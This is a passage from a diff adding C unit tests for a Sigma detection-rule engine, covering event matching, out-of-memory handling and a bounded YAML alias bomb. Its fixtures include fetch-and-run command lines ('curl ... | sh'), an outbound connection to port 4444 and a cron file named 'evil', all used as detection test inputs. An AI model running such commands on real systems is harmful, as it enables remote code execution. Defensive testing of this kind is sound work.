+        "{\"v\":1,\"id\":\"a:1\",\"kind\":\"exec\",\"time\":\"2026-12-07T11:22:33Z\","
+        "\"source\":{\"format\":\"auditd\"},\"user\":{\"name\":\"alice\",\"uid\":0,\"auid\":1000},"
+        "\"process\":{\"pid\":4242,\"ppid\":4000,\"path\":\"/usr/bin/curl\",\"argv\":[\"curl\",\"-s\",\"http://x/y.sh\"],"
+        "\"cmdline\":\"curl -s http://x/y.sh | sh\",\"cwd\":\"/home/alice\"},"
+        "\"parent\":{\"pid\":4000,\"path\":\"/bin/bash\"},"
+        "\"raw\":\"type=SYSCALL msg=audit(1.2:3): syscall=59 comm=\\\"curl\\\" key=\\\"exec_watch\\\"\"}", 0, &je);
+    assert_non_null(ev);
+    sigma_json_ctx ctx;
+    sigma_event_view v;
+    sigma_view_from_event(&v, &ctx, ev);
+    assert_string_equal(v.product, "linux");
+    assert_string_equal(v.category, "process_creation");
+    assert_string_equal(v.service, "auditd");
+    sigma_hit h[4];
+    assert_int_equal(sigma_match(rs, &v, h, 4), 2);
+    assert_string_equal(h[0].title, "pc");
+    assert_string_equal(h[1].title, "aud");
+    json_decref(ev);
+
+    ev = json_loads("{\"v\":1,\"id\":\"n\",\"kind\":\"network\",\"time\":\"t\",\"source\":{\"format\":\"sysmon\"},"
+                    "\"network\":{\"protocol\":\"tcp\",\"direction\":\"outbound\",\"src_ip\":\"10.0.0.5\","
+                    "\"src_port\":50000,\"dst_ip\":\"203.0.113.9\",\"dst_port\":4444}}", 0, &je);
+    assert_non_null(ev);
+    sigma_view_from_event(&v, &ctx, ev);
+    assert_int_equal(sigma_match(rs, &v, h, 4), 1);
+    assert_string_equal(h[0].title, "net");
+    json_decref(ev);
+
+    ev = json_loads("{\"v\":1,\"id\":\"f\",\"kind\":\"file\",\"time\":\"t\",\"source\":{\"format\":\"sysmon\"},"
+                    "\"file\":{\"path\":\"/etc/cron.d/evil\",\"action\":\"create\"}}", 0, &je);
+    assert_non_null(ev);
+    sigma_view_from_event(&v, &ctx, ev);
+    assert_int_equal(sigma_match(rs, &v, h, 4), 1);
+    assert_string_equal(h[0].title, "file");
+    json_decref(ev);
+
+    /* A bare command line: no OS, no service; argv-less is fine. */
+    ev = json_loads("{\"v\":1,\"id\":\"cmdline:1\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"cmdline\"},"
+                    "\"process\":{\"cmdline\":\"curl x | sh\"}}", 0, &je);
+    assert_non_null(ev);
+    sigma_view_from_event(&v, &ctx, ev);
+    assert_null(v.product);
+    assert_null(v.service);
+    assert_int_equal(sigma_match(rs, &v, h, 4), 0);     /* pc needs Image etc. */
+    json_decref(ev);
+    sigma_rules_free(rs);
+}
+
+/* ---- allocation failure --------------------------------------------------- */
+
+static void test_load_oom(void **state) {
+    (void)state;
+    const char *text =
+        "title: oom\nid: x\nlevel: critical\ntags: [attack.t1059, attack.execution]\n"
+        "logsource:\n  product: linux\n  category: process_creation\n"
+        "detection:\n  a:\n    CommandLine|contains|all: [x, y, z]\n    Image|endswith: [/a, /b]\n"
+        "  b:\n    - CommandLine|re: 'a.*b'\n    - CommandLine|base64offset|contains: hello\n"
+        "  c:\n    - 'kw*'\n    - 'kw2'\n  d:\n    DestinationIp|cidr: 10.0.0.0/8\n    User: '?oot'\n"
+        "  condition: (a or 1 of b*) and not c or all of d\n"
+        "---\n"
+        "title: second\nlogsource:\n  product: linux\n"
+        "detection:\n  s:\n    Image|utf16: x\n  condition: s\n";
+    size_t before = nj_mem_in_use();
+    int failures = 0, ok = 0;
+    for (long n = 0; n < 400; n++) {
+        nj_alloc_fail_after(n);
+        int err = 0;
+        sigma_rules *rs = sigma_rules_new(&err);
+        int rc = rs ? sigma_load_text(rs, "oom.yml", text, strlen(text)) : err;
+        nj_alloc_fail_after(-1);
+        if (rc < 0) {
+            assert_int_equal(rc, -ENOMEM);
+            assert_true(nj_last_error()[0] != 0);
+            failures++;
+        } else {
+            assert_int_equal(rc, 1);
+            assert_int_equal(sigma_rule_count(rs), 1);
+            assert_int_equal(sigma_skip_count(rs), 1);
+            ok = 1;
+        }
+        sigma_rules_free(rs);
+        assert_int_equal(nj_mem_in_use(), before);
+        if (ok) break;
+    }
+    assert_true(ok);
+    assert_true(failures > 10);
+}
+
+static void test_dir_oom(void **state) {
+    (void)state;
+    const char *dir = nj_test_tmpdir();
+    char p[600];
+    for (int i = 0; i < 3; i++) {
+        snprintf(p, sizeof p, "%s/r%d.yml", dir, i);
+        FILE *f = fopen(p, "w");
+        assert_non_null(f);
+        fprintf(f, i == 1 ? "title: [bad\n" : "title: r%d\nlogsource:\n  product: linux\n"
+                "detection:\n  s:\n    Image|endswith: /x%d\n  condition: s\n", i, i);
+        fclose(f);
+    }
+    size_t before = nj_mem_in_use();
+    int ok = 0;
+    for (long n = 0; n < 400 && !ok; n++) {
+        int err;
+        sigma_rules *rs = sigma_rules_new(&err);
+        assert_non_null(rs);
+        nj_alloc_fail_after(n);
+        int rc = sigma_load_path(rs, dir);
+        nj_alloc_fail_after(-1);
+        if (rc >= 0) {
+            assert_int_equal(rc, 2);
+            assert_int_equal(sigma_skip_count(rs), 1);
+            ok = 1;
+        } else {
+            assert_int_equal(rc, -ENOMEM);
+        }
+        sigma_rules_free(rs);
+        assert_int_equal(nj_mem_in_use(), before);
+    }
+    assert_true(ok);
+    for (int i = 0; i < 3; i++) {
+        snprintf(p, sizeof p, "%s/r%d.yml", dir, i);
+        unlink(p);
+    }
+    rmdir(dir);
+}
+
+/* An alias bomb is bounded, not expanded. */
+static void test_alias_bomb(void **state) {
+    (void)state;
+    char text[4096] = "title: bomb\nlogsource:\n  product: linux\ndetection:\n  a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n";
+    for (int i = 1; i < 8; i++) {
+        char line[200];
+        snprintf(line, sizeof line, "  a%d: &a%d [*a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d]\n",
+                 i, i, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1);
+        strcat(text, line);
+    }
+    strcat(text, "  s:\n    Image: *a7\n  condition: s\n");
+    int err;
+    sigma_rules *rs = sigma_rules_new(&err);
+    int rc = sigma_load_text(rs, "bomb.yml", text, strlen(text));
+    assert_int_equal(rc, 0);
+    assert_int_equal(sigma_skip_count(rs), 1);
+    sigma_rules_free(rs);
+}
+
+int main(void) {
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_metadata),
+        cmocka_unit_test(test_exact_and_case),
+        cmocka_unit_test(test_wildcards),
+        cmocka_unit_test(test_escapes),
+        cmocka_unit_test(test_contains_starts_ends),
+        cmocka_unit_test(test_lists_and_all),
+        cmocka_unit_test(test_re),
+        cmocka_unit_test(test_exists_null),
+        cmocka_unit_test(test_cidr),
+        cmocka_unit_test(test_windash),
+        cmocka_unit_test(test_base64),
+        cmocka_unit_test(test_numeric_fieldref_cased),
+        cmocka_unit_test(test_conditions),
+        cmocka_unit_test(test_keywords),
+        cmocka_unit_test(test_logsource),
+        cmocka_unit_test(test_skip_reasons),
+        cmocka_unit_test(test_dir_load),
+        cmocka_unit_test(test_canonical_event),
+        cmocka_unit_test(test_load_oom),
+        cmocka_unit_test(test_dir_oom),
+        cmocka_unit_test(test_alias_bomb),
+    };
+    return cmocka_run_group_tests_name("sigma", tests, NULL, NULL);
+}
